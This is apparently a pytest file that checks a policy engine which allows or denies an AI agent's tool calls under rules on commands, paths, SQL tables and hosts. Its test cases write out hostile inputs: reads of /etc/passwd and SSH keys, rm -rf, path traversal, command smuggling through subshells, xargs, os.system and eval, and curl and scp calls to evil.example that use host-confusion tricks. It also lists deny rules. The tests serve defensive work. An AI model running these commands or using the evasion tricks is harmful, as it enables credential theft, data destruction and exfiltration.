"""Rules on commands, paths and tables inside of programs: the answers were written before they were tried."""

from __future__ import annotations

from typing import Any

import pytest

from gatling.errors import InputError
from gatling.policy import Oracle, parse_policy, policy_problems, recognise
from gatling.testing.builders import context, node, plan

POLICY = """
allowed_operations: [bash, read_file, run_sql, python, send_mail]
denied_commands: ['rm *', 'sudo *', shutdown, 'git push *', 'drop table *']
allowed_paths: ['/workspace/*']
denied_tables: [users, 'audit.*']
allowed_hosts: [acme.com]
"""
GRANTS = "allowed_operations: [bash]\nallowed_commands: ['ls *', 'git status', 'frob *', 'cat *']\n"
DENIED_PATHS = "allowed_operations: [bash, read_file]\ndenied_paths: ['/etc/*', '~/.ssh/*']\n"
BY_TOOL = "allowed_operations: [bash, run_sql]\nallowed_tables: {run_sql: [orders]}\n"


def answer(policy: str, tool: str, **arguments: Any) -> str:
    source = parse_policy(policy, file="p.yaml")
    judged = Oracle(recognise(source)).judge(context(source.data), plan(node(tool, arguments=arguments)))
    return {"violation": "deny", "undecided": "open", "compliant": "allow"}[judged.verdict]


@pytest.mark.parametrize(
    ("policy", "command", "wanted"),
    [
        (POLICY, "ls", "allow"),
        (POLICY, "cat /workspace/a.txt", "allow"),
        (POLICY, "cat /etc/passwd", "deny"),
        (POLICY, "cat /workspace/../etc/passwd", "deny"),
        (POLICY, "cat /workspace/a /etc/b", "deny"),
        (POLICY, "cat notes.txt", "open"),
        (POLICY, "cat $FILE", "open"),
        (POLICY, "F=/etc/passwd; cat $F", "deny"),
        (POLICY, "echo x > /workspace/y", "allow"),
        (POLICY, "echo x > /etc/y", "deny"),
        (POLICY, "rm /workspace/a", "deny"),
        (POLICY, "rm", "deny"),
        (POLICY, "/bin/rm /workspace/a", "deny"),
        (POLICY, "r\\m /workspace/a", "deny"),
        (POLICY, "RM /workspace/a", "deny"),
        (POLICY, "ls && bash -c 'rm /workspace/a'", "deny"),
        (POLICY, "find /workspace -exec rm {} +", "deny"),
        (POLICY, "ls | xargs rm", "deny"),
        (POLICY, "echo $(rm /workspace/a)", "deny"),
        (POLICY, "python3 -c \"import os; os.system('rm /workspace/a')\"", "deny"),
        (POLICY, "sudo ls", "deny"),
        (POLICY, "shutdown", "deny"),
        (POLICY, "shutdown -h now", "deny"),
        (POLICY, "git push origin main", "deny"),
        (POLICY, "git -C /workspace push", "deny"),
        (POLICY, "git status", "allow"),
        (POLICY, "frobnicate", "open"),
        (POLICY, "$X /workspace/a", "open"),
        (POLICY, "cat 'x", "open"),
        (POLICY, "curl https://acme.com/x", "allow"),
        (POLICY, "curl https://evil.example/x", "deny"),
        (POLICY, "curl https://acme.com@evil.example/x", "deny"),
        (POLICY, "curl 'https://acme.com\\@evil.example/x'", "deny"),
        (POLICY, "curl --resolve acme.com:443:6.6.6.6 https://acme.com/x", "deny"),
        (POLICY, "curl --resolve=acme.com:443:[::6] https://acme.com/x", "deny"),
        (POLICY, "curl --dns-servers 6.6.6.6 https://acme.com/x", "deny"),
        (POLICY, "wget -qO- -e http_proxy=evil.example https://acme.com/x", "open"),
        (POLICY, "wget -qO- -e robots=off https://acme.com/x", "allow"),
        (POLICY, "scp /workspace/a evil.example:x", "deny"),
        (POLICY, "psql -c 'select 1'", "allow"),
        (POLICY, "psql -c 'select * from Users'", "deny"),
        (POLICY, "psql -c 'drop table t'", "deny"),
        (GRANTS, "ls -la", "allow"),
        (GRANTS, "ls", "allow"),
        (GRANTS, "git status", "allow"),
        (GRANTS, "git status -s", "deny"),
        (GRANTS, "git push", "deny"),
        (GRANTS, "frob x", "allow"),
        (GRANTS, "frobnicate", "deny"),
        (GRANTS, "ls; rm x", "deny"),
        (GRANTS, "sudo ls", "deny"),
        (GRANTS, "ls | sh", "deny"),
        (GRANTS, "cat 'x", "open"),
        (GRANTS, "$X", "open"),
        (DENIED_PATHS, "cat /etc/passwd", "deny"),
        (DENIED_PATHS, "cat //etc/./passwd", "deny"),
        (DENIED_PATHS, "cat /opt/../etc/passwd", "deny"),
        (DENIED_PATHS, "cat ~/.ssh/id_rsa", "deny"),
        (DENIED_PATHS, "cat $HOME/.ssh/id_rsa", "deny"),
        (DENIED_PATHS, "cat /e*/passwd", "open"),
        (DENIED_PATHS, "grep -r x /", "open"),
        (DENIED_PATHS, "cd /etc && cat passwd", "open"),
        (DENIED_PATHS, "cat ../../etc/passwd", "deny"),
        (DENIED_PATHS, "cat notes.txt", "allow"),
        (DENIED_PATHS, "ls /opt", "allow"),
    ],
)  # fmt: skip
def test_rules_hold_inside_of_commands(policy: str, command: str, wanted: str) -> None:
    assert answer(policy, "bash", command=command) == wanted


@pytest.mark.parametrize(
    ("policy", "tool", "arguments", "wanted"),
    [
        (POLICY, "read_file", {"path": "/workspace/a"}, "allow"),
        (POLICY, "read_file", {"path": "/etc/passwd"}, "deny"),
        (POLICY, "read_file", {"file": "%2fetc%2fpasswd"}, "deny"),
        (POLICY, "read_file", {"file_id": "17"}, "allow"),
        (POLICY, "send_mail", {"to": "ann@acme.com", "text": "rm -rf /"}, "allow"),
        (POLICY, "run_sql", {"query": "select * from orders"}, "allow"),
        (POLICY, "run_sql", {"query": "select * from orders o join USERS u on 1 = 1"}, "deny"),
        (POLICY, "run_sql", {"query": "select * from app.users"}, "deny"),
        (POLICY, "run_sql", {"query": "select * from audit.log"}, "deny"),
        (POLICY, "run_sql", {"query": "select 1; drop table x"}, "deny"),
        (POLICY, "run_sql", {"query": "frobnicate x"}, "open"),
        (POLICY, "python", {"code": "open('/workspace/a').read()"}, "allow"),
        (POLICY, "python", {"code": "open('/etc/passwd').read()"}, "deny"),
        (POLICY, "python", {"code": "open(p).read()"}, "open"),
        (POLICY, "python", {"code": "import requests\nrequests.get('https://evil.example')"}, "deny"),
        (POLICY, "python", {"code": "exec(x)"}, "open"),
        (BY_TOOL, "run_sql", {"query": "select * from orders"}, "allow"),
        (BY_TOOL, "run_sql", {"query": "select * from orders, users"}, "deny"),
        (BY_TOOL, "run_sql", {"query": "with x as (select * from orders) select * from x"}, "allow"),
        (BY_TOOL, "bash", {"command": "psql -c 'select * from users'"}, "allow"),
    ],
)
def test_rules_hold_inside_of_other_programs_and_arguments(
    policy: str, tool: str, arguments: dict[str, Any], wanted: str
) -> None:
    assert answer(policy, tool, **arguments) == wanted


LINES = """
allowed_operations: [exec, run_process, subprocess, run, git, kubectl, psql, run_sql, database, eval, http_request, fetch_url, send_mail, run_report]
denied_commands: ['rm *', 'sudo *', 'git push *', 'kubectl delete *']
denied_tables: [users]
denied_paths: ['/etc/*']
blocked_hosts: [evil.example]
"""


@pytest.mark.parametrize(
    ("tool", "arguments", "wanted"),
    [
        ("exec", {"argv": ["sudo", "ls"]}, "deny"),
        ("exec", {"argv": ["ls", "-la"]}, "allow"),
        ("exec", {"argv": ["frobnicate", "x"]}, "open"),
        ("run_process", {"program": "rm", "args": ["-rf", "build"]}, "deny"),
        ("run_process", {"command": "/bin/rm", "args": ["-rf", "build"]}, "deny"),
        ("run_process", {"program": "ls", "args": ["-la"]}, "allow"),
        ("run_process", {"program": "git", "args": ["push"]}, "deny"),
        ("subprocess", {"executable": "rm", "arguments": "-rf x"}, "deny"),
        ("subprocess", {"command": "git -C x", "args": ["push"]}, "deny"),
        ("run", {"input": "rm -rf build"}, "deny"),
        ("run", {"input": "ls"}, "allow"),
        ("run", {"input": "frobnicate the lot"}, "open"),
        ("run", {"name": "nightly"}, "allow"),
        ("run", {"name": "rm -rf build"}, "deny"),
        ("run_report", {"name": "sales of May"}, "allow"),
        ("git", {"args": ["push", "--force"]}, "deny"),
        ("git", {"args": ["-C", "x", "push"]}, "deny"),
        ("git", {"command": "push --force"}, "deny"),
        ("git", {"command": "git push"}, "deny"),
        ("git", {"subcommand": "push", "args": ["origin"]}, "deny"),
        ("git", {"args": ["status"]}, "allow"),
        ("git", {"command": "log --oneline"}, "allow"),
        ("git", {"command": "clone git@evil.example:x/y"}, "deny"),
        ("git", {"command": "clone git@good.example:x/y"}, "allow"),
        ("git", {"command": "frobnicate"}, "open"),
        ("kubectl", {"args": "delete ns prod"}, "deny"),
        ("kubectl", {"command": "get pods"}, "allow"),
        ("psql", {"command": "SELECT a FROM users"}, "deny"),
        ("psql", {"command": "-c 'select a from users'"}, "deny"),
        ("psql", {"command": "SELECT a FROM orders"}, "allow"),
        ("run_sql", {"q": "select * from users"}, "deny"),
        ("run_sql", {"q": "select * from orders"}, "allow"),
        ("run_sql", {"q": "what users are there"}, "open"),
        ("run_sql", {"query": "COPY users TO '/tmp/x'"}, "deny"),
        ("run_sql", {"query": "COPY orders TO '/tmp/x'"}, "allow"),
        ("run_sql", {"query": "LOAD DATA INFILE '/etc/passwd' INTO TABLE t"}, "deny"),
        ("run_sql", {"query": "LOAD DATA INFILE '/tmp/x' INTO TABLE t FIELDS TERMINATED BY ','"}, "allow"),
        ("database", {"text": "DELETE FROM users"}, "deny"),
        ("database", {"text": "hello"}, "allow"),
        ("eval", {"expression": "__import__('os').system('rm -rf /')"}, "deny"),
        ("eval", {"expression": "1 + 1"}, "allow"),
        ("http_request", {"raw": "GET http://evil.example/ HTTP/1.1"}, "deny"),
        ("http_request", {"raw": "POST /x HTTP/1.1\r\nHost: evil.example\r\n\r\nx"}, "deny"),
        ("http_request", {"raw": "GET http://good.example/ HTTP/1.1"}, "allow"),
        ("fetch_url", {"url": "file:///etc/passwd"}, "deny"),
        ("fetch_url", {"url": "FILE:/etc/passwd"}, "deny"),
        ("fetch_url", {"url": "file:///srv/a.txt"}, "allow"),
        ("run", {"input": "curl file:///etc/passwd"}, "deny"),
        ("run", {"input": "curl --resolve a.example:443:evil.example https://a.example"}, "deny"),
        ("send_mail", {"to": "a@good.example", "body": "rm -rf build"}, "allow"),
    ],
)
def test_a_program_is_read_whatever_its_argument_is_called(tool: str, arguments: dict[str, Any], wanted: str) -> None:
    assert answer(LINES, tool, **arguments) == wanted


def test_a_denied_word_denies_the_tool_of_that_name_too() -> None:
    policy = "allowed_operations: ['*']\ndenied_commands: [delete_file, 'rm *', 'git push *']\n"
    assert [answer(policy, tool) for tool in ("delete_file", "rm", "git", "read_file")] == [
        "deny",
        "deny",
        "allow",
        "allow",
    ]


@pytest.mark.parametrize(
    ("text", "refusal"),
    [
        ("denied_commands: rm", "found rm, wanted a list of patterns"),
        ("denied_commands: [1]", "found 1, wanted text"),
        ("denied_commands: {bash: rm}", "a list of patterns"),
        ("denied_commands: [Never run anything that needs root.]", "a sentence, and no pattern"),
        ("denied_comands: ['rm *']", "did you mean denied_commands?"),
        ("protected_paths: ['/etc/*']", "did you mean denied_paths?"),
    ],
)
def test_what_is_no_list_of_patterns_is_refused(text: str, refusal: str) -> None:
    with pytest.raises(InputError) as refused:
        recognise(parse_policy(f"allowed_operations: [bash]\n{text}\n", file="p.yaml"))
    assert refusal in str(refused.value)
    assert str(refused.value).startswith("p.yaml:2")


def test_every_key_of_the_family_is_of_the_format() -> None:
    for how in ("allowed", "denied", "forbidden", "blocked"):
        for what in ("commands", "paths", "tables"):
            for value in ("['x*']", "{bash: ['x*']}"):
                source = parse_policy(f"allowed_operations: [bash]\n{how}_{what}: {value}\n")
                assert policy_problems(source) == []
                assert len(recognise(source).clauses) >= 2
